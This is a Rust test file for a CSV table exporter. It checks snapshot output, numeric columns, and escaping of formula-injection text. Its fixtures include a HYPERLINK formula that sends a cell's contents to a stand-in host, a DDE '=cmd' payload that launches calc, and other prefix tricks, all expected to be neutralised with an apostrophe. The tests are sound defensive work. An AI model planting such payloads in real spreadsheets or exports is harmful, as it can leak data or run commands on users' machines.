use newstem_export::table::TableFormat;

use crate::fixture::{file, texts, well, with_hostile_text};

fn columns(trace: &newstem::Trace, table: &str, names: &[&str]) -> Vec<Vec<String>> {
    let bytes = file(trace, table, TableFormat::Csv);
    let mut reader = ::csv::Reader::from_reader(bytes.as_slice());
    let headers = reader.headers().unwrap().clone();
    let places: Vec<usize> = names
        .iter()
        .map(|name| headers.iter().position(|header| header == *name).unwrap())
        .collect();
    let records = reader.records().map(|record| record.unwrap());
    records.map(|record| places.iter().map(|&at| record[at].to_owned()).collect()).collect()
}

#[test]
fn all_tables() {
    // Lines end as RFC 4180 has it, which a snapshot cannot show.
    let texts = texts(&well(), TableFormat::Csv);
    assert!(texts.contains("\r\n"));
    insta::assert_snapshot!(texts.replace("\r\n", "\n"));
}

#[test]
fn no_text_is_run_by_a_spreadsheet() {
    let check = |hostile: &str, expected: &str| {
        let trace = with_hostile_text(hostile);
        for row in columns(&trace, "articles", &["title", "outlet", "author", "body", "language"]) {
            row.iter().for_each(|cell| assert_eq!(cell, expected, "{hostile:?}"));
        }
        for row in columns(&trace, "quotes", &["speaker"]) {
            assert_eq!(row, [expected]);
        }
        for row in columns(&trace, "unseen", &["label"]) {
            assert_eq!(row, [expected]);
        }
    };
    let link = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")";
    check(link, &format!("'{link}"));
    check("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0");
    check(" \u{A0}+1", "' \u{A0}+1");
    check("－2", "'－2");
    check("@SUM(A1:A9)\r\n\",=1", "'@SUM(A1:A9)\r\n\",=1");
    check("\t=1", "'\t=1");
    check("plain, \"quoted\"\nand broken", "plain, \"quoted\"\nand broken");
}

#[test]
fn numbers_stay_numbers() {
    let rows = columns(&well(), "links", &["log_odds_over_rejected", "confidence", "covered"]);
    assert_eq!(rows[1], ["-1.5", "0.98", "1"]);
    assert_eq!(rows[0], ["", "0.92", ""]);
}
